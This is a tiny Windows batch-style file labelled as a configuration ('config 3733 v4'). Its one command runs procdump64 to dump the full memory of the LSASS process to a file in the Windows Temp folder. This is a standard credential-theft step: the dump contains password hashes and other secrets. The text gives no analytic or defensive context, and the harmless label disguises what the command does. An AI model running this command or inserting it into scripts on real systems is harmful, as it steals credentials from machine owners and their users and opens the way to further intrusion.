REM config 3733 v4
procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
